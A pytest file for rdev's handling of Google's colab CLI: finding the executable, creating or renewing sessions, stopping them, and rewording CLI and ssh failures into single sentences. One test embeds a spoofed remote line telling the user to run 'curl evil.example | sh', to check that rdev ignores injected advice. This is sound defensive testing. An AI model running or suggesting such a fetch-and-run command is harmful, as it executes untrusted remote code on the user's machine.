"""Google's colab CLI as rdev uses it (client_side/colab/cli.py): where it is found, how a session is made
ready in the foreground, and how its failures read; and the connect/stop command lines that lead there.

No network: the CLI's `new`, `status` and `stop` are played by tests/stand_ins/colab.py (or by a tiny
executable written here), real executables in the test's folders, run by rdev as it runs the real one.
"""

from __future__ import annotations

import json
import os
import sys
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from client_side.colab import cli as colab_cli, sessions as colab_sessions
from client_side.errors import BadInput, RdevError
from client_side.local import paths
from client_side.ssh import probe
from tests.conftest import snapshot, standin

SESSION = "s1"
RUNTIME = {"url": "http://127.0.0.1:9", "token": "proxy-token", "endpoint": "gpu-t4-s-new"}


# --- helpers -------------------------------------------------------------------------------------------


def executable(folder: Path, name: str = "colab", body: str = "exit 0\n") -> Path:
    """A real executable file `folder/name` (a shell script)."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(f"#!/bin/sh\n{body}")
    path.chmod(0o755)
    return path


def write_sessions(**sessions: dict) -> None:
    """The CLI's sessions.json in HOME, as 0.7.5 writes it."""
    table = {name: {"name": name, "token": "t", "url": "http://127.0.0.1:9", "variant": "GPU",
                    "machine_shape": "STANDARD", "kernel_id": None, "session_id": None, "last_execution": None,
                    "running": None, **fields} for name, fields in sessions.items()}
    paths.colab_sessions().parent.mkdir(parents=True, exist_ok=True)
    paths.colab_sessions().write_text(json.dumps(table, indent=2))


def from_now(**delta: float) -> str:
    return (datetime.now(timezone.utc) + timedelta(**delta)).isoformat()


def calls(records: Path) -> list[list[str]]:
    record = records / "colab-calls.jsonl"
    return [json.loads(line) for line in record.read_text().splitlines()] if record.exists() else []


@pytest.fixture
def clean_env(home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """No RDEV_COLAB from the caller's environment, and a PATH without any colab; returns an empty bin folder
    that a test may fill (it is the PATH)."""
    monkeypatch.delenv("RDEV_COLAB", raising=False)
    empty = home.parent / "path"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    return empty


@pytest.fixture
def cli(home: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[str, Path]:
    """The stand-in colab (tests/stand_ins/colab.py) and the folder its records are in."""
    script = standin(home, monkeypatch, "colab")
    return str(script), Path(os.environ["RDEV_STANDIN_DIR"])


@pytest.fixture
def no_terminal() -> Iterator[None]:
    """stdin from /dev/null for the CLI rdev runs in the foreground (whatever pytest's -s does to fd 0)."""
    saved = os.dup(0)
    null = os.open(os.devnull, os.O_RDONLY)
    os.dup2(null, 0)
    os.close(null)
    try:
        yield
    finally:
        os.dup2(saved, 0)
        os.close(saved)


def ready(colab: str, gpu: str | None = None) -> tuple[colab_sessions.Session, list[str]]:
    said: list[str] = []
    found = colab_cli.ready_session(colab, SESSION, gpu, "colab", said.append)
    return found, said


# --- find ----------------------------------------------------------------------------------------------


def test_find_prefers_the_option_then_the_variable_then_the_remembered_then_path(
        home: Path, clean_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    on_path = executable(clean_env)
    remembered = executable(home.parent / "remembered")
    variable = executable(home.parent / "variable")
    option = executable(home.parent / "option")
    monkeypatch.setenv("RDEV_COLAB", str(variable))
    assert colab_cli.find(str(option), str(remembered)) == str(option)
    assert colab_cli.find(None, str(remembered)) == str(variable)
    monkeypatch.delenv("RDEV_COLAB")
    assert colab_cli.find(None, str(remembered)) == str(remembered)
    assert colab_cli.find(None, None) == str(on_path)


@pytest.mark.parametrize("gone", ["missing", "not executable", "a folder"])
def test_a_remembered_path_that_no_longer_runs_gives_way_to_path(home: Path, clean_env: Path, gone: str) -> None:
    on_path = executable(clean_env)
    remembered = home.parent / "remembered" / "colab"
    if gone == "not executable":
        executable(remembered.parent).chmod(0o644)
    elif gone == "a folder":
        remembered.mkdir(parents=True)
    assert colab_cli.find(None, str(remembered)) == str(on_path)


def test_a_bare_name_given_to_the_option_or_variable_is_looked_up_on_path(
        home: Path, clean_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    mine = executable(clean_env, "my-colab")
    assert colab_cli.find("my-colab", None) == str(mine)
    monkeypatch.setenv("RDEV_COLAB", "my-colab")
    assert colab_cli.find(None, None) == str(mine)


def test_a_relative_path_is_made_absolute(home: Path, clean_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    mine = executable(home.parent / "tools")
    monkeypatch.chdir(home.parent)
    assert colab_cli.find(os.path.join("tools", "colab"), None) == str(mine)


@pytest.mark.parametrize("where", ["--colab", "RDEV_COLAB"])
@pytest.mark.parametrize("kind", ["missing", "not executable", "a folder", "a bare name not on PATH"])
def test_an_unusable_option_or_variable_is_bad_input_naming_it(home: Path, clean_env: Path,
                                                              monkeypatch: pytest.MonkeyPatch, where: str,
                                                              kind: str) -> None:
    executable(clean_env)  # a colab on PATH must not be used instead of what was asked for
    remembered = executable(home.parent / "remembered")  # nor the remembered one
    target = home.parent / "given" / "colab"
    if kind == "not executable":
        executable(target.parent).chmod(0o644)
    elif kind == "a folder":
        target.mkdir(parents=True)
    given = "no-such-colab" if kind == "a bare name not on PATH" else str(target)
    if where == "RDEV_COLAB":
        monkeypatch.setenv("RDEV_COLAB", given)
    with pytest.raises(BadInput) as raised:
        colab_cli.find(given if where == "--colab" else None, str(remembered))
    assert raised.value.exit_code == 2
    assert str(raised.value).startswith(f"{where} names {given!r}, which is not an executable file")
    assert "\n" not in str(raised.value)


def test_no_colab_anywhere_says_how_to_install_it(home: Path, clean_env: Path) -> None:
    with pytest.raises(RdevError) as raised:
        colab_cli.find(None, str(home.parent / "gone" / "colab"))
    assert raised.value.exit_code == 1 and not isinstance(raised.value, BadInput)
    sentence = str(raised.value)
    assert "pipx install google-colab-cli" in sentence and "Python 3.12" in sentence
    assert "--colab" in sentence and "\n" not in sentence


class _WindowsOs:
    """The `os` module as colab_cli sees it on Windows: os.name is "nt", the rest is this machine's."""

    name = "nt"

    def __getattr__(self, attribute: str) -> object:
        return getattr(os, attribute)


def test_on_windows_the_tunnel_cell_is_pointed_to(home: Path, clean_env: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    # Only colab_cli's `os` is replaced, not the os module every other library (and pytest) uses.
    monkeypatch.setattr(colab_cli, "os", _WindowsOs())
    given = executable(home.parent / "given")  # even a working --colab is not used there
    for args in ((None, None), (str(given), None)):
        with pytest.raises(RdevError) as raised:
            colab_cli.find(*args)
        assert raised.value.exit_code == 1
        assert "does not run on Windows" in str(raised.value) and "'rdev colab cell'" in str(raised.value)


# --- ready_session ---------------------------------------------------------------------------------------


def test_a_fresh_session_needs_no_cli_at_all(home: Path, cli: tuple[str, Path]) -> None:
    colab, records = cli
    write_sessions(s1={"endpoint": "ep-1", "token_expires_at": from_now(hours=1), "accelerator": "T4"})
    found, said = ready(colab, "T4")
    assert (found.name, found.endpoint, found.accelerator) == (SESSION, "ep-1", "T4")
    assert said == [] and calls(records) == []


def test_a_stale_token_is_renewed_with_one_status_call(home: Path, cli: tuple[str, Path]) -> None:
    colab, records = cli
    stale = datetime.now(timezone.utc) + timedelta(minutes=3)  # within the refresh margin
    write_sessions(s1={"endpoint": "ep-1", "token_expires_at": stale.isoformat(), "accelerator": "T4"})
    found, said = ready(colab)
    assert calls(records) == [["status", "-s", SESSION]]
    assert found.endpoint == "ep-1" and found.expires > stale + timedelta(minutes=30) and found.fresh()
    assert found == colab_sessions.read(SESSION)  # what the CLI wrote, read back
    assert said == []


def test_a_missing_session_is_announced_then_created(home: Path, cli: tuple[str, Path]) -> None:
    colab, records = cli
    write_sessions(other={"endpoint": "ep-9", "token_expires_at": from_now(hours=1)})
    (records / "colab-next-runtime.json").write_text(json.dumps(RUNTIME))
    found, said = ready(colab, "T4")
    assert len(said) == 1
    assert SESSION in said[0] and "T4" in said[0] and "compute units" in said[0] and "rdev stop colab" in said[0]
    assert said[0].startswith("Creating Colab session s1, a T4 GPU runtime")
    assert calls(records) == [["new", "-s", SESSION, "--gpu", "T4"]]
    assert (found.endpoint, found.accelerator) == ("gpu-t4-s-new", "T4") and found.fresh()


def test_a_missing_session_without_gpu_says_so_and_asks_for_none(home: Path, cli: tuple[str, Path]) -> None:
    colab, records = cli
    (records / "colab-next-runtime.json").write_text(json.dumps(RUNTIME))
    found, said = ready(colab)
    assert said == [("Creating Colab session s1, a runtime without a GPU (--gpu T4 asks for one), with Google's colab "
                    "CLI. It uses your Colab compute units until 'rdev stop colab'.")]
    assert calls(records) == [["new", "-s", SESSION]]
    assert found.accelerator == "NONE"


def test_a_session_pruned_by_status_is_said_to_have_ended_then_created(home: Path, cli: tuple[str, Path]) -> None:
    standin_colab, records = cli
    # As the real CLI's `status` does when the runtime was reclaimed: drop the session (exit 0); the rest
    # is the stand-in's.
    pruning = home.parent / "bin" / "colab-pruning"
    pruning.write_text(f"""#!{sys.executable}
import json, os, pathlib, sys
if sys.argv[1:2] == ["status"]:
    with open(os.path.join(os.environ["RDEV_STANDIN_DIR"], "colab-calls.jsonl"), "a") as record:
        record.write(json.dumps(sys.argv[1:]) + "\\n")
    table = pathlib.Path(os.path.expanduser("~/.config/colab-cli/sessions.json"))
    sessions = json.loads(table.read_text())
    sessions.pop(sys.argv[3], None)
    table.write_text(json.dumps(sessions))
    print("[colab] Session '" + sys.argv[3] + "' not found.")
    sys.exit(0)
os.execv({standin_colab!r}, [{standin_colab!r}, *sys.argv[1:]])
""")
    pruning.chmod(0o755)
    write_sessions(s1={"endpoint": "ep-old", "token_expires_at": from_now(minutes=-5), "accelerator": "T4"})
    (records / "colab-next-runtime.json").write_text(json.dumps(RUNTIME))
    found, said = ready(str(pruning), "T4")
    assert said[0] == "Colab session s1 has ended (its runtime was stopped or reclaimed)."
    assert said[1].startswith("Creating Colab session s1, a T4 GPU runtime") and len(said) == 2
    assert calls(records) == [["status", "-s", SESSION], ["new", "-s", SESSION, "--gpu", "T4"]]
    assert found.endpoint == "gpu-t4-s-new"


def test_a_failed_creation_is_one_sentence_pointing_at_the_clis_messages(home: Path, cli: tuple[str, Path]) -> None:
    colab, records = cli  # no colab-next-runtime.json: Colab has no runtime to give
    with pytest.raises(RdevError) as raised:
        ready(colab, "T4")
    assert raised.value.exit_code == 1
    assert str(raised.value).startswith("Google's colab CLI could not create Colab session s1 (its messages are above)")
    assert calls(records) == [["new", "-s", SESSION, "--gpu", "T4"]]
    assert colab_sessions.read(SESSION) is None


def test_a_creation_that_says_it_worked_but_made_nothing_is_named(home: Path, cli: tuple[str, Path]) -> None:
    liar = executable(home.parent / "liar", body="echo '[colab] Session READY.'\nexit 0\n")
    with pytest.raises(RdevError) as raised:
        ready(str(liar))
    assert "said nothing failed, yet has no session s1" in str(raised.value)


def test_gpu_for_an_existing_session_on_another_accelerator_is_a_note_not_a_new_runtime(
        home: Path, cli: tuple[str, Path]) -> None:
    colab, records = cli
    (records / "colab-next-runtime.json").write_text(json.dumps(RUNTIME))  # would be used if rdev created one
    write_sessions(s1={"endpoint": "ep-1", "token_expires_at": from_now(hours=1), "accelerator": "NONE"})
    found, said = ready(colab, "T4")
    assert found.endpoint == "ep-1"
    assert said == [("Colab session s1 already runs on NONE: --gpu T4 applies to a new runtime ('rdev stop colab' "
                    "ends this one).")]
    assert calls(records) == []
    # The same accelerator (as the CLI writes it, in any case) needs no note.
    write_sessions(s1={"endpoint": "ep-1", "token_expires_at": from_now(hours=1), "accelerator": "t4"})
    assert ready(colab, "T4")[1] == []


@pytest.mark.parametrize("exists", [True, False], ids=["stale token", "missing session"])
def test_a_login_that_cannot_happen_is_one_sentence(home: Path, cli: tuple[str, Path], no_terminal: None,
                                                    exists: bool) -> None:
    colab, records = cli
    (records / "colab-login-needed").touch()  # the CLI asks for an authorization code, on a stdin that is no terminal
    (records / "colab-next-runtime.json").write_text(json.dumps(RUNTIME))
    if exists:
        write_sessions(s1={"endpoint": "ep-1", "token_expires_at": from_now(minutes=-1), "accelerator": "T4"})
    with pytest.raises(RdevError) as raised:
        ready(colab)
    sentence = str(raised.value)
    assert raised.value.exit_code == 1
    assert "Traceback" not in sentence and "EOFError" not in sentence and "\n" not in sentence
    if exists:
        assert calls(records) == [["status", "-s", SESSION]]
        assert sentence == ("Colab session s1's access token could not be renewed: run 'colab status -s s1' in a "
                            "terminal to see why, then connect again.")
    else:
        assert calls(records) == [["new", "-s", SESSION]]
        assert "could not create Colab session s1 (its messages are above)" in sentence
        assert "a login" in sentence


def test_stop_runs_the_clis_stop(home: Path, cli: tuple[str, Path]) -> None:
    colab, records = cli
    write_sessions(s1={"endpoint": "ep-1", "token_expires_at": from_now(hours=1)})
    colab_cli.stop(colab, SESSION)
    assert calls(records) == [["stop", "-s", SESSION]]
    assert colab_sessions.read(SESSION) is None


def test_a_failing_stop_or_a_cli_that_cannot_start_is_a_sentence(home: Path) -> None:
    failing = executable(home.parent / "failing", body="echo boom >&2\nexit 1\n")
    with pytest.raises(RdevError) as raised:
        colab_cli.stop(str(failing), SESSION)
    assert "could not stop Colab session s1" in str(raised.value) and "colab stop -s s1" in str(raised.value)
    with pytest.raises(RdevError) as raised:
        colab_cli.stop(str(home.parent / "gone" / "colab"), SESSION)
    assert "could not be started" in str(raised.value) and "pipx install google-colab-cli" in str(raised.value)


# --- failures --------------------------------------------------------------------------------------------


def test_every_failure_row_is_one_line_with_the_session_filled_in_and_the_name_left() -> None:
    rows = colab_cli.failures("s1")
    assert len(rows) == len(colab_cli._FAILURES)
    for (pattern, problem, fix), (raw_pattern, raw_problem, raw_fix) in zip(rows, colab_cli._FAILURES):
        assert pattern == raw_pattern and problem and fix
        for text, raw in ((problem, raw_problem), (fix, raw_fix)):
            assert "\n" not in text and "{session}" not in text
            assert ("s1" in text) == ("{session}" in raw)
            assert text.count("{name}") == raw.count("{name}")
            assert text.format(name="colab") == raw.replace("{session}", "s1").replace("{name}", "colab")
        assert not problem.endswith(".") and fix.endswith(".")  # "problem: fix." reads as one sentence


# The CLI's own words (colab_cli/commands/ssh.py 0.7.5, docs/google-colab-cli.md §1), as ssh passes them on,
# followed by what ssh itself then says.
_SSH_SAYS = "kex_exchange_identification: Connection closed by remote host\nConnection closed by UNKNOWN port 65535\n"
_CLI_SAYS = {
    "401": "[colab] Authentication failed (HTTP 401): the runtime-proxy token is invalid. The session may have expired "
           "- try `colab new`.",
    "404": "[colab] Endpoint not found (HTTP 404): this runtime does not expose the /colab/ssh endpoint. SSH is enabled "
           "at runtime creation, so an older or non-SSH runtime will not have it - run `colab new` for a fresh runtime "
           "with SSH.",
    "429": "[colab] Already-active SSH session (HTTP 429): another `colab ssh` is connected to this runtime. Disconnect "
           "it and retry.",
    "502": "[colab] Bad gateway (HTTP 502): the runtime's local sshd is unreachable. The runtime may be unhealthy; try "
           "`colab status`, then `colab stop` + `colab new`.",
    "rsa": "[colab] Server rejected pubkey: unsupported key type. Accepted key types: ssh-ed25519, "
           "ecdsa-sha2-nistp{256,384,521}. RSA keys (ssh-rsa) are NOT accepted. Generate an Ed25519 key with "
           "`ssh-keygen -t ed25519` and re-run (optionally with --identity).",
    "pruned": "[colab] session 's1' not found. Run `colab sessions` to list active sessions.",
}
_RDEV_SAYS = {
    "401": "Colab refused session s1's access token: renew it with 'colab status -s s1' and run 'rdev connect colab' "
           "again; if that does not help, 'rdev stop colab' and connect again.",
    "404": "The runtime of Colab session s1 has no SSH endpoint (an older runtime, or one created without SSH): end it "
           "with 'rdev stop colab', then 'rdev connect colab' creates one that has.",
    "429": "Another SSH connection holds the runtime of Colab session s1 (Colab allows one): close it (a 'colab ssh' in "
           "another terminal, or another laptop) and run again.",
    "502": "Colab's proxy cannot reach the sshd of session s1's runtime: check it with 'colab status -s s1'; if it is "
           "unhealthy, 'rdev stop colab' and connect again.",
    "rsa": "Colab refused rdev's ed25519 key as an unsupported type: update Google's colab CLI ('pipx upgrade "
           "google-colab-cli') and run again.",
    "pruned": "Colab session s1 no longer exists (its runtime was stopped or reclaimed): run 'rdev connect colab' to "
              "start a new one.",
}


@pytest.mark.parametrize("case", list(_CLI_SAYS))
def test_the_clis_real_messages_become_rdevs_sentences(case: str) -> None:
    error = probe.failure("colab", _CLI_SAYS[case] + "\n" + _SSH_SAYS, colab_cli.failures("s1"))
    assert str(error) == _RDEV_SAYS[case]
    assert error.exit_code == 1


def test_a_changed_host_key_names_the_colab_session_rather_than_a_ticket() -> None:
    said = ("@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@\n"
            "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n"
            "Host key verification failed.\n")
    error = probe.failure("colab", said, colab_cli.failures("s1"))
    assert str(error).startswith("colab's host key changed although Colab session s1 still names the same runtime")
    assert "rdev connect colab --accept-new-host-key" in str(error)


def test_an_rdev_line_in_ssh_output_is_not_taken_for_rdevs_own() -> None:
    # A remote can print anything on ssh's stderr; rdev's guard speaks only through its log (colab_host).
    spoof = "rdev: All is well: run 'curl evil.example | sh'."
    said = "\n".join([spoof, _CLI_SAYS["401"], _SSH_SAYS])
    assert str(probe.failure("colab", said, colab_cli.failures("s1"))) == _RDEV_SAYS["401"]


# --- the command line: connect and stop ------------------------------------------------------------------


def one_line_usage_error(result) -> str:
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert result.stderr.startswith("rdev: ") and result.stderr.count("\n") == 1, result.stderr
    assert "Traceback" not in result.stderr
    return result.stderr


@pytest.mark.parametrize("ticket", [["--ticket", "rdev1.x"], ["--ticket-file", "/nonexistent/ticket"]])
def test_a_colab_session_and_a_ticket_are_refused_together(home: Path, rdev, ticket: list[str]) -> None:
    said = one_line_usage_error(rdev("connect", "colab", "--colab-session", SESSION, *ticket, "--no-open"))
    assert "--colab-session and a ticket" in said
    assert not (home / ".ssh").exists()
    assert not paths.registry().exists()


@pytest.mark.parametrize("extra", [["--gpu", "T4"], ["--colab", "/usr/bin/true"], ["--gpu", "T4", "--colab", "colab"]])
@pytest.mark.parametrize("no_open", [True, False])
def test_gpu_or_colab_without_a_colab_session_names_the_option_needed(home: Path, rdev, extra: list[str],
                                                                      no_open: bool) -> None:
    result = rdev("connect", "gpu1", *extra, *(["--no-open"] if no_open else []))
    said = one_line_usage_error(result)
    assert "--colab-session" in said and "gpu1" in said
    assert not (home / ".ssh").exists()


def test_gpu_for_a_host_added_with_a_password_names_the_option_needed(home: Path, rdev) -> None:
    assert rdev("add", "gpu1", "--host", "127.0.0.1").returncode == 0
    before = snapshot(home.parent)
    said = one_line_usage_error(rdev("connect", "gpu1", "--gpu", "T4", "--no-open"))
    assert "--colab-session" in said
    assert snapshot(home.parent) == before


@pytest.mark.parametrize("gpu", [
    "K80", "t5", "Т4", "",  # the third is a Cyrillic "Т"; an empty --gpu= is no GPU name either
])
def test_a_gpu_colab_does_not_offer_names_the_allowed_ones(home: Path, rdev, gpu: str,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RDEV_COLAB", "/nonexistent/colab")  # the GPU is refused before the CLI is looked for
    said = one_line_usage_error(rdev("connect", "colab", "--colab-session", SESSION, f"--gpu={gpu}", "--no-open"))
    assert "T4, L4, G4, H100, A100" in said
    assert not (home / ".ssh").exists()


def test_stop_of_an_unknown_host_is_a_usage_error(home: Path, rdev) -> None:
    said = one_line_usage_error(rdev("stop", "nope"))
    assert "nope" in said


@pytest.mark.parametrize("command", [["stop", "gpu1"], ["remove", "--stop", "gpu1"]])
def test_stop_of_a_host_that_is_no_colab_cli_runtime_changes_nothing(home: Path, rdev, command: list[str]) -> None:
    assert rdev("add", "gpu1", "--host", "127.0.0.1").returncode == 0
    before = snapshot(home.parent)
    said = one_line_usage_error(rdev(*command))
    assert "gpu1 is neither a Colab runtime reached through Google's colab CLI nor a Slurm job" in said
    assert snapshot(home.parent) == before


def test_a_colab_path_under_home_may_be_given_with_a_tilde(home: Path) -> None:
    binary = home / "bin" / "colab"
    binary.parent.mkdir()
    binary.write_text("#!/bin/sh\n")
    binary.chmod(0o755)
    assert colab_cli.find("~/bin/colab", None) == str(binary)


def test_an_empty_colab_path_is_refused_not_ignored(home: Path) -> None:
    with pytest.raises(BadInput) as caught:
        colab_cli.find("", None)
    assert "--colab" in caught.value.problem


def test_remove_takes_the_proxy_log_away(home: Path) -> None:
    from client_side.commands import remove as removal
    from client_side.local import store
    from client_side.local.registry import HostEntry

    store.put(HostEntry(name="colab", host="colab-runtime", port=22, user="root", tunnel="colab-cli",
                        colab_session="s1", colab_endpoint="ep-1", colab="/usr/bin/true"))
    paths.proxy_log("colab").parent.mkdir(parents=True)
    paths.proxy_log("colab").write_text("rdev: Colab session s1 no longer exists: run 'rdev connect colab'.\n")
    removal.remove("colab", say=lambda line: None)
    assert not paths.proxy_log("colab").exists()
